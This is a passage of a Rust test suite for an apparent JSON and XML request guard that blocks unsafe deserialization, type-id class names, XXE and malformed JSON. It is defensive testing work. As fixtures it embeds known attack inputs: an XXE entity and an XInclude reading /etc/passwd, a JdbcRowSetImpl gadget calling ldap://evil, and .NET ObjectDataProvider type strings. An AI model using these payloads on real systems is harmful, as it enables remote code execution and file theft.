                r#"{"value":"{}","type":"Object","objectTypeName":"com.acme.Order","valueInfo":{"serializationDataFormat":"application/json"}}"#,
            ),
            err(INVALID, "/variables/x/valueInfo"),
        ),
        // Near misses: a null or absent value needs neither.
        case(
            "null value, no objectTypeName",
            v(
                r#"{"value":null,"type":"Object","valueInfo":{"serializationDataFormat":"application/json"}}"#,
            ),
            OK,
        ),
        case(
            "null value, no serializationDataFormat",
            v(r#"{"value":null,"type":"Object","valueInfo":{"objectTypeName":"com.acme.Order"}}"#),
            OK,
        ),
        case(
            "null value, empty valueInfo",
            v(r#"{"value":null,"type":"Object","valueInfo":{}}"#),
            OK,
        ),
        case(
            "null value, objectTypeName null",
            v(
                r#"{"value":null,"type":"Object","valueInfo":{"objectTypeName":null,"serializationDataFormat":"application/json"}}"#,
            ),
            OK,
        ),
        case("absent value", v(r#"{"type":"Object"}"#), OK),
        // Unknown data formats for Object.
        case(
            "unknown format application/yaml",
            v(&typed(
                r#""a: 1""#,
                "Object",
                "com.acme.Order",
                "application/yaml",
            )),
            err(INVALID, "/variables/x/valueInfo/serializationDataFormat"),
        ),
        case(
            "unknown format text/plain",
            v(&typed(r#""x""#, "Object", "com.acme.Order", "text/plain")),
            err(INVALID, "/variables/x/valueInfo/serializationDataFormat"),
        ),
        case(
            "unknown format empty",
            v(&typed(r#""x""#, "Object", "com.acme.Order", "")),
            err(INVALID, "/variables/x/valueInfo/serializationDataFormat"),
        ),
        case(
            "near miss: known format in upper case",
            v(&typed(
                r#""{}""#,
                "Object",
                "com.acme.Order",
                "APPLICATION/JSON",
            )),
            OK,
        ),
        case(
            "near miss: application/xml with benign XML",
            v(&typed(
                r#""<order id=\"1\"/>""#,
                "Object",
                "com.acme.Order",
                "application/xml",
            )),
            OK,
        ),
        case(
            "near miss: a String variable's valueInfo is not judged",
            v(
                r#"{"value":"x","type":"String","valueInfo":{"serializationDataFormat":"application/yaml","transient":true}}"#,
            ),
            OK,
        ),
        case(
            "near miss: a File variable's valueInfo",
            v(
                r#"{"value":"aGVsbG8=","type":"File","valueInfo":{"filename":"a.txt","mimeType":"text/plain","encoding":"UTF-8"}}"#,
            ),
            OK,
        ),
        // Java serialization.
        case(
            "Java serialization",
            v(&typed(
                &js(JAVA_STREAM),
                "Object",
                "java.util.HashMap",
                "application/x-java-serialized-object",
            )),
            err(JAVA, "/variables/x/valueInfo/serializationDataFormat"),
        ),
        case(
            "Java serialization in upper case",
            v(&typed(
                &js(JAVA_STREAM),
                "Object",
                "java.util.HashMap",
                "APPLICATION/X-JAVA-SERIALIZED-OBJECT",
            )),
            err(JAVA, "/variables/x/valueInfo/serializationDataFormat"),
        ),
        case(
            "Java serialization with blanks",
            v(&typed(
                &js(JAVA_STREAM),
                "Object",
                "java.util.HashMap",
                " application/x-java-serialized-object ",
            )),
            err(JAVA, "/variables/x/valueInfo/serializationDataFormat"),
        ),
        case(
            "Java serialization without a type",
            v(
                r#"{"value":"rO0ABQ==","valueInfo":{"objectTypeName":"java.util.HashMap","serializationDataFormat":"application/x-java-serialized-object"}}"#,
            ),
            err(JAVA, "/variables/x/valueInfo/serializationDataFormat"),
        ),
        case(
            "Java serialization, valueInfo first",
            v(
                r#"{"valueInfo":{"serializationDataFormat":"application/x-java-serialized-object","objectTypeName":"java.util.HashMap"},"type":"Object","value":"rO0ABQ=="}"#,
            ),
            err(JAVA, "/variables/x/valueInfo/serializationDataFormat"),
        ),
    ];
    // Non-string values of serialized types.
    for t in ["Object", "Json", "Xml"] {
        for value in [
            "1",
            "-0.5",
            "true",
            "false",
            "{}",
            r#"{"a":1}"#,
            "[]",
            r#"["a"]"#,
        ] {
            cases.push(case(
                format!("{t} with value {value}"),
                v(&format!(
                    r#"{{"value":{value},"type":"{t}","valueInfo":{{"objectTypeName":"com.acme.Order","serializationDataFormat":"application/json"}}}}"#
                )),
                err(INVALID, "/variables/x/value"),
            ));
        }
        cases.push(case(
            format!("near miss: {t} with value null"),
            v(&format!(r#"{{"value":null,"type":"{t}"}}"#)),
            OK,
        ));
    }
    for (t, value) in [
        ("Integer", "1"),
        ("Boolean", "true"),
        ("Double", "1.5"),
        ("String", r#""s""#),
        ("Null", "null"),
    ] {
        cases.push(case(
            format!("near miss: {t} with value {value}"),
            v(&format!(r#"{{"value":{value},"type":"{t}"}}"#)),
            OK,
        ));
    }
    check(&test_guard(), &cases);

    let allowing = guard_with("allow_java_serialization = true", "");
    check(
        &allowing,
        &[
            case(
                "Java serialization allowed by the policy",
                v(&typed(
                    &js(JAVA_STREAM),
                    "Object",
                    "java.util.HashMap",
                    "application/x-java-serialized-object",
                )),
                OK,
            ),
            case(
                "Java serialization allowed, its objectTypeName still checked",
                v(&typed(
                    &js(JAVA_STREAM),
                    "Object",
                    "com.evil.X",
                    "application/x-java-serialized-object",
                )),
                err(CLASS, "/variables/x/valueInfo/objectTypeName"),
            ),
            case(
                "Java serialization allowed, objectTypeName still required",
                v(
                    r#"{"value":"rO0ABQ==","type":"Object","valueInfo":{"serializationDataFormat":"application/x-java-serialized-object"}}"#,
                ),
                err(INVALID, "/variables/x/valueInfo"),
            ),
        ],
    );
}

#[test]
fn object_type_name_anywhere() {
    let cases = [
        case(
            "top level",
            r#"{"objectTypeName":"com.evil.X"}"#,
            err(CLASS, "/objectTypeName"),
        ),
        case(
            "outside any valueInfo",
            r#"{"order":{"objectTypeName":"com.evil.X","serializationDataFormat":"application/json"}}"#,
            err(CLASS, "/order/objectTypeName"),
        ),
        case(
            "deep in arrays",
            r#"{"a":[1,[{"b":{"objectTypeName":"com.evil.X"}}]]}"#,
            err(CLASS, "/a/1/0/b/objectTypeName"),
        ),
        case(
            "in a top-level array",
            r#"[{},{"valueInfo":{"objectTypeName":"com.evil.X"}}]"#,
            err(CLASS, "/1/valueInfo/objectTypeName"),
        ),
        case(
            "keys needing JSON Pointer escapes",
            r#"{"a/b":{"m~n":{"objectTypeName":"com.evil.X"}}}"#,
            err(CLASS, "/a~1b/m~0n/objectTypeName"),
        ),
        case(
            "malformed name",
            r#"{"a":{"objectTypeName":"com..evil"}}"#,
            err(CLASS, "/a/objectTypeName"),
        ),
        case(
            "number",
            r#"{"a":{"objectTypeName":5}}"#,
            err(INVALID, "/a/objectTypeName"),
        ),
        case(
            "boolean",
            r#"{"a":{"objectTypeName":true}}"#,
            err(INVALID, "/a/objectTypeName"),
        ),
        case(
            "array",
            r#"{"a":{"objectTypeName":["com.evil.X"]}}"#,
            err(INVALID, "/a/objectTypeName"),
        ),
        case(
            "object",
            r#"{"a":{"objectTypeName":{"name":"com.evil.X"}}}"#,
            err(INVALID, "/a/objectTypeName"),
        ),
        case(
            "number in a valueInfo",
            r#"{"variables":{"x":{"value":null,"type":"Object","valueInfo":{"objectTypeName":1}}}}"#,
            err(INVALID, "/variables/x/valueInfo/objectTypeName"),
        ),
        // Near misses.
        case(
            "allowed name",
            r#"{"a":[{"objectTypeName":"com.acme.Order"}]}"#,
            OK,
        ),
        case("null", r#"{"a":{"objectTypeName":null}}"#, OK),
        case(
            "as a value",
            r#"{"a":"objectTypeName","b":["objectTypeName"]}"#,
            OK,
        ),
        case(
            "other case",
            r#"{"a":{"objecttypename":"com.evil.X","ObjectTypeName":"com.evil.X"}}"#,
            OK,
        ),
        case(
            "longer key",
            r#"{"a":{"objectTypeNames":"com.evil.X"}}"#,
            OK,
        ),
    ];
    check(&test_guard(), &cases);
}

// -------------------------------------------- JSON and XML in strings

#[test]
fn carried_documents() {
    let v = |var: &str| in_variables(var);
    let object_json = |value: &str| {
        v(&typed(
            &js(value),
            "Object",
            "com.acme.Order",
            "application/json",
        ))
    };
    let object_xml = |value: &str| {
        v(&typed(
            &js(value),
            "Object",
            "com.acme.Order",
            "application/xml",
        ))
    };
    let json_var = |value: &str| v(&format!(r#"{{"value":{},"type":"Json"}}"#, js(value)));
    let xml_var = |value: &str| v(&format!(r#"{{"value":{},"type":"Xml"}}"#, js(value)));
    let xxe =
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>"#;
    let cases = [
        case(
            "Object/json carrying a gadget @class",
            object_json(
                r#"{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/x","autoCommit":true}"#,
            ),
            err(CLASS, "/variables/x/value/@class"),
        ),
        case(
            "Object/json carrying a nested $type",
            object_json(r#"[{"x":{"$type":"Evil.Gadget, Evil"}}]"#),
            err(CLASS, "/variables/x/value/0/x/$type"),
        ),
        case(
            "Object/json carrying an objectTypeName",
            object_json(r#"{"inner":{"objectTypeName":"com.evil.X"}}"#),
            err(CLASS, "/variables/x/value/inner/objectTypeName"),
        ),
        case(
            "Object/json carrying a typed variable",
            object_json(&in_variables(&object_var("com.evil.X"))),
            err(
                CLASS,
                "/variables/x/value/variables/x/valueInfo/objectTypeName",
            ),
        ),
        case(
            "Object/json carrying a duplicate key",
            object_json(r#"{"a":1,"a":2}"#),
            err(DUPLICATE, "/variables/x/value/a"),
        ),
        case(
            "Object/json malformed",
            object_json("not json"),
            err(MALFORMED, "/variables/x/value"),
        ),
        case(
            "Object/json empty",
            object_json(""),
            err(MALFORMED, "/variables/x/value"),
        ),
        case(
            "Object/json with a comment",
            object_json(r#"{"a":1/*x*/}"#),
            err(MALFORMED, "/variables/x/value/a"),
        ),
        case(
            "Object/json with a lone surrogate, written as \\\\ud800 in the body",
            v(
                r#"{"value":"[\"\\ud800\"]","type":"Object","valueInfo":{"objectTypeName":"com.acme.Order","serializationDataFormat":"application/json"}}"#,
            ),
            err(MALFORMED, "/variables/x/value/0"),
        ),
        case(
            "near miss: Object/json benign",
            object_json(r#"{"customer":"Ann","lines":[{"sku":"a","qty":1}],"@note":"x"}"#),
            OK,
        ),
        case(
            "near miss: Object/json allowed @class",
            object_json(r#"{"@class":"com.acme.Order","items":["java.util.ArrayList",[]]}"#),
            OK,
        ),
        case(
            "Json variable with invalid JSON",
            json_var("{\"a\":1,}"),
            err(MALFORMED, "/variables/x/value"),
        ),
        case(
            "Json variable with NaN",
            json_var("[NaN]"),
            err(MALFORMED, "/variables/x/value/0"),
        ),
        case(
            "Json variable with @type",
            json_var(r#"{"a":{"@type":"com.evil.X"}}"#),
            err(CLASS, "/variables/x/value/a/@type"),
        ),
        case(
            "near miss: Json variable benign",
            json_var(r#"{"a":[1,2.5,"x",null,true]}"#),
            OK,
        ),
        case("near miss: Json variable scalar", json_var("42"), OK),
        case(
            "Xml variable with a DOCTYPE",
            xml_var(xxe),
            err(DOCTYPE, "/variables/x/value"),
        ),
        case(
            "Xml variable with a lower-case doctype",
            xml_var("<!doctype r><r/>"),
            err(DOCTYPE, "/variables/x/value"),
        ),
        case(
            "Xml variable with XInclude",
            xml_var(
                r#"<r><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></r>"#,
            ),
            err(XINCLUDE, "/variables/x/value/r/include"),
        ),
        case(
            "Xml variable malformed",
            xml_var("<r>"),
            err(XML_MALFORMED, "/variables/x/value/r"),
        ),
        case(
            "near miss: Xml variable benign",
            xml_var(r#"<?xml version="1.0"?><order id="1"><line>a &amp; b</line></order>"#),
            OK,
        ),
        case(
            "Object/xml with a DOCTYPE",
            object_xml(xxe),
            err(DOCTYPE, "/variables/x/value"),
        ),
        case(
            "near miss: Object/xml benign",
            object_xml("<order><id>1</id></order>"),
            OK,
        ),
        case(
            "Object/xml names a denied class",
            v(&typed(
                &js("<order/>"),
                "Object",
                "com.evil.X",
                "application/xml",
            )),
            err(CLASS, "/variables/x/valueInfo/objectTypeName"),
        ),
        case(
            "untyped value with application/json valueInfo",
            v(&format!(
                r#"{{"value":{},"valueInfo":{{"serializationDataFormat":"application/json"}}}}"#,
                js(r#"{"@class":"com.evil.X"}"#)
            )),
            err(CLASS, "/variables/x/value/@class"),
        ),
    ];
    check(&test_guard(), &cases);
}

#[test]
fn carried_documents_nest_up_to_max_embedded_depth() {
    let default = test_guard();
    assert_eq!(default.policy().json.max_embedded_depth, 4);
    let shallow = guard_with("", "max_embedded_depth = 1");
    let pointer = |n: usize| "/value".repeat(n);
    let mut cases = Vec::new();
    for (name, carrier) in [
        ("Json", json_carrier as fn(&str) -> String),
        ("Object/json", object_carrier as fn(&str) -> String),
    ] {
        cases.push((
            &default,
            case(format!("{name}: 4 deep"), nested_carriers(4, carrier), OK),
        ));
        cases.push((
            &default,
            case(
                format!("{name}: 5 deep"),
                nested_carriers(5, carrier),
                err(TOO_DEEP, &pointer(5)),
            ),
        ));
        cases.push((
            &default,
            case(
                format!("{name}: 9 deep"),
                nested_carriers(9, carrier),
                err(TOO_DEEP, &pointer(5)),
            ),
        ));
        cases.push((
            &shallow,
            case(
                format!("{name}: 1 deep, max 1"),
                nested_carriers(1, carrier),
                OK,
            ),
        ));
        cases.push((
            &shallow,
            case(
                format!("{name}: 2 deep, max 1"),
                nested_carriers(2, carrier),
                err(TOO_DEEP, &pointer(2)),
            ),
        ));
    }
    // Alternating carriers count together.
    let mixed = (0..5).fold(r#"{"a":1}"#.to_owned(), |inner, i| {
        if i % 2 == 0 {
            json_carrier(&js(&inner))
        } else {
            object_carrier(&js(&inner))
        }
    });
    cases.push((
        &default,
        case("mixed: 5 deep", mixed, err(TOO_DEEP, &pointer(5))),
    ));
    // A class inside the deepest allowed carrier is still found.
    let deep_evil = (0..4).fold(r#"{"@class":"com.evil.X"}"#.to_owned(), |inner, _| {
        json_carrier(&js(&inner))
    });
    cases.push((
        &default,
        case(
            "class 4 carriers deep",
            deep_evil,
            err(CLASS, &format!("{}/@class", pointer(4))),
        ),
    ));
    for (guard, c) in cases {
        check(guard, &[c]);
    }
}

// -------------------------------------------------------------- type ids

#[test]
fn type_id_keys() {
    let odp = "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35";
    let wrapper = "System.Data.Services.Internal.ExpandedWrapper`2[[System.Web.UI.LosFormatter, System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a],[System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35]], System.Data.Services, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089";
    let dollar = |name: &str| format!(r#"{{"$type":{},"MethodName":"Start"}}"#, js(name));
    let cases = [
        case(
            "@class",
            r#"{"@class":"com.evil.X"}"#,
            err(CLASS, "/@class"),
        ),
        case(
            "@type",
            r#"{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x","autoCommit":true}}"#,
            err(CLASS, "/a/@type"),
        ),
        case(
            "@c",
            r#"{"a":[{"@c":"com.evil.X"}]}"#,
            err(CLASS, "/a/0/@c"),
        ),
        case("$type", dollar("Evil.Gadget, Evil"), err(CLASS, "/$type")),
        case(
            "@class in arrays of arrays",
            r#"[[1],[2,[{"x":{"@class":"com.evil.X"}}]]]"#,
            err(CLASS, "/1/1/0/x/@class"),
        ),
        case(
            "@class after other members",
            r#"{"a":1,"b":{"c":[],"@class":"com.evil.X"}}"#,
            err(CLASS, "/b/@class"),
        ),
        case(
            "@class in generics",
            r#"{"@class":"java.util.ArrayList<com.evil.X>"}"#,
            err(CLASS, "/@class"),
        ),
        case(
            "@class array descriptor",
            r#"{"@class":"[Lcom.evil.X;"}"#,
            err(CLASS, "/@class"),
        ),
        case(
            "@class malformed",
            r#"{"@class":"com.evil."}"#,
            err(CLASS, "/@class"),
        ),
        case(
            "@c minimal class id (relative, unknowable base)",
            r#"{"@c":".Order"}"#,
            err(CLASS, "/@c"),
        ),
        case(
            ".NET ObjectDataProvider, assembly-qualified",
            dollar(odp),
            err(CLASS, "/$type"),
        ),
        case(
            ".NET ExpandedWrapper`2[[...],[...]]",
            dollar(wrapper),
            err(CLASS, "/$type"),
        ),
        case(
            ".NET allowed generic, denied argument",
            dollar("System.Collections.Generic.List`1[[Evil.Gadget, Evil]], mscorlib"),
            err(CLASS, "/$type"),
        ),
        case(
            ".NET malformed",
            dollar("Acme.Order, "),
            err(CLASS, "/$type"),
        ),
        case(
            ".NET Java-style generics are not .NET",
            dollar("Acme.List<Acme.Order>"),
            err(CLASS, "/$type"),
        ),
        // Near misses.
        case(
            "allowed @class",
            r#"{"@class":"com.acme.Order","@type":"java.util.ArrayList","@c":"com.acme.Line"}"#,
            OK,
        ),
        case(
            "allowed @class array",
            r#"{"@class":"[Lcom.acme.Order;"}"#,
            OK,
        ),
        case(
            ".NET allowed",
            dollar("Acme.Order, Acme, Version=1.0.0.0, Culture=neutral, PublicKeyToken=null"),
            OK,
        ),
        case(
            ".NET allowed nested type",
            dollar("Acme.Outer+Inner, Acme"),
            OK,
        ),
        case(
            ".NET allowed generic",
            dollar("System.Collections.Generic.List`1[[Acme.Order, Acme]], mscorlib"),
            OK,
        ),
        case(
            ".NET allowed dictionary",
            dollar("System.Collections.Generic.Dictionary`2[System.String,Acme.Order]"),
            OK,
        ),
        case(
            "type id key names as values",
            r#"{"k":"@class","l":["$type","@type"]}"#,
            OK,
        ),
        case(
            "other keys",
            r#"{"class":"com.evil.X","@Class":"com.evil.X","@classes":"com.evil.X","type":5}"#,
            OK,
        ),
        case("non-string type id", r#"{"@class":null,"@type":1}"#, OK),
    ];
    check(&test_guard(), &cases);
}

#[test]
fn custom_type_id_keys() {
    let custom = guard_with("", r#"type_id_keys = ["@javaClass", "__type"]"#);
    check(
        &custom,
        &[
            case(
                "custom key",
                r#"{"a":{"@javaClass":"com.evil.X"}}"#,
                err(CLASS, "/a/@javaClass"),
            ),
            case(
                "custom .NET-style key",
                r#"{"__type":"Evil.Gadget, Evil"}"#,
                err(CLASS, "/__type"),
            ),
            case(
                "custom key allowed",
                r#"{"@javaClass":"com.acme.Order","__type":"Acme.Order, Acme"}"#,
                OK,
            ),
            case(
                "default keys are not checked",
                r#"{"@class":"com.evil.X","@type":"x","@c":"y","$type":"z"}"#,
                OK,
            ),
            case(
                "objectTypeName is still checked",
                r#"{"objectTypeName":"com.evil.X"}"#,
                err(CLASS, "/objectTypeName"),
            ),
            case(
                "custom key in carried JSON",
                in_variables(&typed(
                    &js(r#"{"@javaClass":"com.evil.X"}"#),
                    "Object",
                    "com.acme.Order",
                    "application/json",
                )),
                err(CLASS, "/variables/x/value/@javaClass"),
            ),
        ],
    );
    // Keys sharing a slot of the classification table with `type`/`value`
    // (same length and first letter), one past eight bytes, and a key
    // longer than any length the table tells apart.
    let crowded = guard_with(
        "",
        r#"type_id_keys = ["tyXe", "vaXue", "valueInfoClassName", "@class", "class"]"#,
    );
    check(
        &crowded,
        &[
            case(
                "key sharing a slot with type",
                r#"{"tyXe":"com.evil.X"}"#,
                err(CLASS, "/tyXe"),
            ),
            case(
                "key sharing a slot with value",
                r#"{"vaXue":"com.evil.X"}"#,
                err(CLASS, "/vaXue"),
            ),
            case(
                "long custom key",
                r#"{"valueInfoClassName":"com.evil.X"}"#,
                err(CLASS, "/valueInfoClassName"),
            ),
            case(
                "type still means type",
                in_variables(&object_var("com.evil.X")),
                err(CLASS, "/variables/x/valueInfo/objectTypeName"),
            ),
            case(
                "type still means type, Java serialization",
                in_variables(&typed(
                    &format!("\"{JAVA_STREAM}\""),
                    "Object",
                    "java.util.HashMap",
                    "application/x-java-serialized-object",
                )),
                err(JAVA, "/variables/x/valueInfo/serializationDataFormat"),
            ),
            // Near misses: same slot, other text.
            case("tyYe is data", r#"{"tyYe":"com.evil.X"}"#, OK),
            case(
                "one byte past eight differs",
                r#"{"valueInfoClassNamf":"com.evil.X"}"#,
                OK,
            ),
            case("cla is data", r#"{"cla":"com.evil.X"}"#, OK),
        ],
    );
    let none = guard_with("", "type_id_keys = []");
    check(
        &none,
        &[
            case(
                "no type-id keys",
                r#"{"@class":"com.evil.X","$type":"Evil.X, Evil"}"#,
                OK,
            ),
            case(
                "objectTypeName is still checked",
                r#"{"a":{"objectTypeName":"com.evil.X"}}"#,
                err(CLASS, "/a/objectTypeName"),
            ),
            case(
                "typed variables are still checked",
                in_variables(&object_var("com.evil.X")),
                err(CLASS, "/variables/x/valueInfo/objectTypeName"),
            ),
        ],
    );
}

#[test]
fn wrapper_arrays() {
    let on = guard_with("", "wrapper_arrays = true");
    check(
        &on,
        &[
            case("top level", r#"["com.evil.X",{"a":1}]"#, err(CLASS, "/0")),
            case(
                "under a key",
                r#"{"v":["com.evil.X",{}]}"#,
                err(CLASS, "/v/0"),
            ),
            case(
                "nested in an allowed wrapper",
                r#"["java.util.ArrayList",["com.evil.X",{}]]"#,
                err(CLASS, "/1/0"),
            ),
            case(
                "array descriptor",
                r#"["[Lcom.evil.X;",[]]"#,
                err(CLASS, "/0"),
            ),
            case(
                "generic",
                r#"["java.util.ArrayList<com.evil.X>",[]]"#,
                err(CLASS, "/0"),
            ),
            case(
                "scalar payload",
                r#"{"a":["com.evil.X","x"]}"#,
                err(CLASS, "/a/0"),
            ),
            case(
                "gadget",
                r#"["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://x","autoCommit":true}]"#,
                err(CLASS, "/0"),
            ),
            case(
                "in carried JSON",
                in_variables(&typed(
                    &js(r#"["com.evil.X",{}]"#),
                    "Object",
                    "java.util.HashMap",
                    "application/json",
                )),
                err(CLASS, "/variables/x/value/0"),
            ),
            // Near misses.
            case("allowed class", r#"["com.acme.Order",{"id":1}]"#, OK),
            case(
                "allowed nested",
                r#"["java.util.ArrayList",["com.acme.Order",{}]]"#,
                OK,
            ),
            case("no dot", r#"["a",1]"#, OK),
            case("version string", r#"["v1.2",3]"#, OK),
            case("number-like", r#"["1.5",3]"#, OK),
            case("sentence", r#"["see com.evil.X",{}]"#, OK),
            case("URL", r#"["http://com.evil.X",{}]"#, OK),
            case("three elements", r#"["com.evil.X",{},1]"#, OK),
            case("one element", r#"["com.evil.X"]"#, OK),
            case("class name second", r#"[1,"com.evil.X"]"#, OK),
            case("object first", r#"[{},"com.evil.X"]"#, OK),
        ],
    );
    let off = test_guard();
    assert!(
        !off.policy().json.wrapper_arrays,
        "wrapper_arrays defaults to false"
    );
    check(
        &off,
        &[
            case("off: top level", r#"["com.evil.X",{"a":1}]"#, OK),
            case(
                "off: nested",
                r#"{"v":["java.util.ArrayList",["com.evil.X",{}]]}"#,
                OK,
            ),
        ],
    );
}

// -------------------------------------------------------------- strict JSON

#[test]
fn duplicate_keys() {
    let many = |n: usize, tail: &str| {
        let members: Vec<String> = (0..n).map(|i| format!(r#""k{i}":{i}"#)).collect();
        format!("{{{}{tail}}}", members.join(","))
    };
    let nested_shadow = {
        let members: Vec<String> = (0..20).map(|i| format!(r#""k{i}":{i}"#)).collect();
        let inner = members.join(",");
        format!(r#"{{{inner},"inner":{{{inner}}},"k20":[{{{inner}}},{{{inner}}}],"k21":1}}"#)
    };
    let cases = [
        case("same key twice", r#"{"a":1,"a":2}"#, err(DUPLICATE, "/a")),
        case(
            "same key, different values types",
            r#"{"a":{},"a":[]}"#,
            err(DUPLICATE, "/a"),
        ),
        case(
            "after unescaping",
            r#"{"a":1,"\u0061":2}"#,
            err(DUPLICATE, "/a"),
        ),
        case(
            "after unescaping, both escaped",
            r#"{"\u0061b":1,"a\u0062":2}"#,
            err(DUPLICATE, "/ab"),
        ),
        case(
            "escaped slash",
            r#"{"a/b":1,"a\/b":2}"#,
            err(DUPLICATE, "/a~1b"),
        ),
        case(
            "surrogate pair vs raw",
            "{\"\\ud83d\\ude00\":1,\"\u{1F600}\":2}",
            err(DUPLICATE, "/\u{1F600}"),
        ),
        case("empty key", r#"{"":1,"":2}"#, err(DUPLICATE, "/")),
        case(
            "nested object",
            r#"{"x":{"b":1,"b":2}}"#,
            err(DUPLICATE, "/x/b"),
        ),
        case(
            "in an array element",
            r#"{"x":[{"b":1},{"b":1,"c":2,"b":3}]}"#,
            err(DUPLICATE, "/x/1/b"),
        ),
        case(
            "after a nested object",
            r#"{"x":{"b":1},"x":2}"#,
            err(DUPLICATE, "/x"),
        ),
        case(
            "type in a typed variable",
            r#"{"v":{"type":"String","value":"a","type":"Object"}}"#,
            err(DUPLICATE, "/v/type"),
        ),
        case("16th member", many(15, r#","k3":0"#), err(DUPLICATE, "/k3")),
        case(
            "17th member (switch to hashing)",
            many(16, r#","k0":0"#),
            err(DUPLICATE, "/k0"),
        ),
        case(
            "> 16 members",
            many(20, r#","k3":0"#),
            err(DUPLICATE, "/k3"),
        ),
        case(
            "> 16 members, late",
            many(200, r#","k199":0"#),
            err(DUPLICATE, "/k199"),
        ),
        case(
            "> 16 members, escaped",
            many(20, r#","k\u0035":0"#),
            err(DUPLICATE, "/k5"),
        ),
        case(
            "> 16 members, nested",
            format!(r#"{{"a":{}}}"#, many(40, r#","k17":0"#)),
            err(DUPLICATE, "/a/k17"),
        ),
        // Keys compare by their first eight bytes first: the rest counts.
        case(
            "long keys, same first eight bytes",
            r#"{"customerName":1,"customerNamf":2,"customerName":3}"#,
            err(DUPLICATE, "/customerName"),
        ),
        case(
            "long keys, hashed",
            many(20, r#","customerName":1,"customerNamf":2,"customerName":3"#),
            err(DUPLICATE, "/customerName"),
        ),
        case(
            "keys past sixteen bytes, hashed",
            many(
                20,
                r#","customerShippingAddress1":1,"customerShippingAddress2":2,"customerShippingAddress1":3"#,
            ),
            err(DUPLICATE, "/customerShippingAddress1"),
        ),
        case(
            "keys past sixteen bytes, hashed, escaped",
            many(
                20,
                r#","customerShippingAddress1":1,"customerShippingAddress\u0031":2"#,
            ),
            err(DUPLICATE, "/customerShippingAddress1"),
        ),
        case(
            "5000 members, duplicate last",
            many(5000, r#","k4999":0"#),
            err(DUPLICATE, "/k4999"),
        ),
        case(
            "> 16 members, long key escaped",
            many(20, r#","customerName":1,"customer\u004eame":2"#),
            err(DUPLICATE, "/customerName"),
        ),
        case(
            "second of two big siblings",
            format!(
                r#"{{"a":{},"b":{}}}"#,
                many(20, ""),
                many(30, r#","k25":0"#)
            ),
            err(DUPLICATE, "/b/k25"),
        ),
        // Near misses.
        case(
            "long keys differing after eight bytes",
            r#"{"customerName":1,"customerNamf":2,"customerNam":3,"customerNameX":4}"#,
            OK,
        ),
        case(
            "long keys differing after eight bytes, hashed",
            many(20, r#","customerName":1,"customerNamf":2,"customerNam":3"#),
            OK,
        ),
        case(
            "eight and nine bytes",
            r#"{"abcdefgh":1,"abcdefghi":2}"#,
            OK,
        ),
        case(
            "keys past sixteen bytes differing in the last, hashed",
            many(
                20,
                r#","customerShippingAddress1":1,"customerShippingAddress2":2,"customerShippingAddress":3"#,
            ),
            OK,
        ),
        case(
            "big siblings sharing every key",
            format!(r#"{{"a":{},"b":{}}}"#, many(40, ""), many(40, "")),
            OK,
        ),
        case("5000 distinct members", many(5000, ""), OK),
        case("sibling objects", r#"[{"a":1},{"a":2}]"#, OK),
        case(
            "sibling objects under keys",
            r#"{"x":{"a":1},"y":{"a":2}}"#,
            OK,
        ),
        case("parent and child", r#"{"a":{"a":{"a":1}}}"#, OK),
        case("child then parent", r#"{"x":{"b":1},"b":2}"#, OK),
        case("case differs", r#"{"a":1,"A":2}"#, OK),
        case("trailing blank", r#"{"a":1,"a ":2}"#, OK),
        case("prefix", r#"{"ab":1,"a":2,"abc":3}"#, OK),
        case("escape of another letter", r#"{"a":1,"\u0062":2}"#, OK),
        case("200 distinct members", many(200, ""), OK),
        case("big object, children sharing its keys", &nested_shadow, OK),
    ];
    check(&test_guard(), &cases);
}

#[test]
fn strict_syntax() {
    let cases = [
        // Trailing commas.
        case("trailing comma in array", "[1,]", err(MALFORMED, "/1")),
        case(
            "trailing comma in object",
            r#"{"a":1,}"#,
            err(MALFORMED, "/"),
        ),
        case("leading comma", "[,1]", err(MALFORMED, "/0")),
        case("double comma", "[1,,2]", err(MALFORMED, "/1")),
        case("near miss: no trailing comma", r#"[1,{"a":1}]"#, OK),
        // Comments.
        case(
            "block comment in object",
            r#"{"a":1/*c*/}"#,
            err(MALFORMED, "/a"),
        ),
        case("line comment before", "// c\n{}", err(MALFORMED, "/")),
        case("line comment after", "{}// c", err(MALFORMED, "/")),
        case("hash comment", "# c\n{}", err(MALFORMED, "/")),
        case(
            "near miss: comment-like string",
            r#"{"a":"/* c */ // d # e"}"#,
            OK,
        ),
        // Single quotes and bare words.
        case("single-quoted key", "{'a':1}", err(MALFORMED, "/")),
        case("single-quoted value", r#"{"a":'b'}"#, err(MALFORMED, "/a")),
        case("bare key", "{a:1}", err(MALFORMED, "/")),
        case("number key", "{1:2}", err(MALFORMED, "/")),
        case("near miss: apostrophe in a string", r#"{"a":"it's"}"#, OK),
        // NaN and infinities.
        case("NaN", r#"{"a":NaN}"#, err(MALFORMED, "/a")),
        case("Infinity", "[Infinity]", err(MALFORMED, "/0")),
        case("-Infinity", "[-Infinity]", err(MALFORMED, "/0")),
        case("nan top level", "nan", err(MALFORMED, "/")),
        case(
            "near miss: NaN as a string",
            r#"{"a":"NaN","b":"Infinity"}"#,
            OK,
        ),
        case("near miss: huge exponent", "[1e999,-1e-999]", OK),
        // Literals.
        case("True", "[True]", err(MALFORMED, "/0")),
        case("NULL", "NULL", err(MALFORMED, "/")),
        case("truncated literal", "[nul]", err(MALFORMED, "/0")),
        case("literal with a tail", "[truex]", err(MALFORMED, "/0")),
        case("literal at the end", "tru", err(MALFORMED, "/")),
        case("near miss: literals", "[true,false,null]", OK),
        // Numbers.
        case("leading zero", "[01]", err(MALFORMED, "/0")),
        case("negative leading zero", "[-01]", err(MALFORMED, "/0")),
        case("double zero", r#"{"a":00}"#, err(MALFORMED, "/a")),
        case("leading zero top level", "01", err(MALFORMED, "/")),
        case("dot without fraction", "[1.]", err(MALFORMED, "/0")),
